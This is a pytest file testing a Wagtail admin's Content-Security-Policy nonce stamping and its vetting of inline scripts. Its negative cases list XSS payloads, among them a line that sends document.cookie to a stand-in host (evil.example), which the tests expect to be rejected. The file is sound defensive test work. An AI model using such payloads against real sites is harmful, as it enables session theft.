"""The Wagtail admin under the policy: every inline script on its pages carries the response's
nonce (Wagtail's own initialisers, vetted), its modals bring no inline script of their own,
and an inline script that is anything else gets no nonce."""

from __future__ import annotations

import re

import pytest
from django.contrib.auth.models import Group, User
from wagtail.models import Page

from masthead.editorial.models import Author, Section
from masthead.security.csp import SCRIPT, is_vetted, runs_inline, stamp_nonces
from tests import factories as f

pytestmark = pytest.mark.django_db


@pytest.fixture
def admin_client(client, superuser):
    client.force_login(superuser)
    return client


def admin_pages() -> list[str]:
    story = f.article("Under the policy", tags=["ports"])
    parent = story.get_parent()
    brief = f.brief("A brief")
    author, section = Author.objects.first(), Section.objects.first()
    home = Page.objects.get(depth=2)
    return [
        "/admin/", f"/admin/pages/{story.pk}/edit/", f"/admin/pages/{home.pk}/edit/",
        f"/admin/pages/{parent.pk}/", f"/admin/pages/add/editorial/articlepage/{parent.pk}/",
        f"/admin/pages/{story.pk}/history/", "/admin/pages/search/?q=policy",
        "/admin/images/", "/admin/images/multiple/add/", f"/admin/images/{story.top_image_id}/",
        "/admin/documents/", "/admin/documents/multiple/add/",
        f"/admin/snippets/editorial/author/edit/{author.pk}/", "/admin/snippets/editorial/author/add/",
        f"/admin/snippets/editorial/section/edit/{section.pk}/",
        f"/admin/snippets/briefs/brief/edit/{brief.pk}/", "/admin/snippets/briefs/brief/add/",
        "/admin/settings/core/magazinesettings/", "/admin/users/", "/admin/users/new/",
        f"/admin/groups/edit/{Group.objects.first().pk}/", "/admin/workflows/list/",
        "/admin/reports/locked/", "/admin/reports/site-history/", "/admin/account/",
        "/admin/newsletter/round-ups/", "/admin/newsletter/round-ups/new/",
        "/admin/newsletter/subscribers/", "/admin/redirects/",
        "/admin/collections/", "/admin/2fa/setup/",
        f"/admin/security/users/{staff_member().pk}/reset-2fa/",
    ]


def staff_member() -> User:
    return User.objects.create_user("writer", "writer@example.org", "pw", is_staff=True)


MODALS = ["/admin/choose-page/", "/admin/images/chooser/", "/admin/documents/chooser/",
          "/admin/embeds/chooser/", "/admin/snippets/choose/editorial/author/",
          "/admin/snippets/choose/editorial/section/", "/admin/choose-external-link/",
          "/admin/workflows/task_chooser/", "/admin/workflows/task_chooser/create/"]


def inline_scripts(html: str) -> list[tuple[str, str]]:
    return [(m[1], m[2]) for m in SCRIPT.finditer(html) if runs_inline(m[1])]


def test_every_inline_script_in_the_admin_has_the_nonce(admin_client):
    checked = 0
    for path in admin_pages():
        response = admin_client.get(path, follow=True)
        assert response.status_code == 200, path
        html = response.content.decode()
        scripts = inline_scripts(html)
        if not scripts:
            continue
        nonce = re.search(r"'nonce-([^']+)'", response["Content-Security-Policy"])
        assert nonce, path
        for attrs, body in scripts:
            assert f'nonce="{nonce[1]}"' in attrs, (path, body.strip()[:80])
            checked += 1
    assert checked > 10  # choosers, inline panels and date pickers were among them


def test_admin_modals_bring_no_inline_script(admin_client):
    """A modal's HTML arrives by fetch and runs under the page's policy (another nonce)."""
    f.article("Chosen")
    for path in MODALS:
        response = admin_client.get(path)
        assert response.status_code == 200, path
        payload = response.json() if "json" in response["Content-Type"] else {}
        html = payload.get("html", "") if payload else response.content.decode()
        assert inline_scripts(html) == [], path


@pytest.mark.parametrize("body", [
    'new ImageChooser("id_top_image", {"modalUrl": "/admin/images/chooser/"});',
    'initDateTimeChooser("id_go_live_at", {"dayOfWeekStart": 1, "format": "Y-m-d H:i"});',
    "(function() {\n  var panel = new InlinePanel(JSON.parse(\"{\\u0022formsetPrefix\\u0022: 1}\"));\n})();",
])
def test_wagtail_initialisers_are_vetted(body):
    assert is_vetted(body)


@pytest.mark.parametrize("body", [
    "alert(document.cookie)",
    'new ImageChooser("x", {}); fetch("https://evil.example/?" + document.cookie);',
    'new ImageChooser("x", {"a": 1}), alert(1);',
    'new ImageChooser("x", alert(1));',
    'new ImageChooser("x", NaN);',
    'new Function("alert(1)");',
    'initDateChooser("x", {}); initDateChooser("y", {});',
    'new EvilChooser("x", {});',
    "(function() { var panel = new InlinePanel(JSON.parse(\"{}\" + alert(1))); })();",
    'new ImageChooser("<!--", {});',
])
def test_anything_else_is_not(body):
    assert not is_vetted(body)


def test_an_injected_script_gets_no_nonce():
    html = (
        '<p>comment</p><script>alert(1)</script>'
        '<script type="text/javascript">new PageChooser("id_page", {"modalUrl": "/x/"});</script>'
        '<script src="/static/a.js"></script><script type="application/json">{}</script>'
        '<div title="<script>">x</div><SCRIPT>alert(2)</SCRIPT >'
    )
    stamped, refused = stamp_nonces(html, lambda: "N0NCE")
    assert stamped.count('nonce="N0NCE"') == 1
    assert '<script nonce="N0NCE" type="text/javascript">new PageChooser' in stamped
    assert refused[0] == "alert(1)" and "alert(2)" in refused[-1]
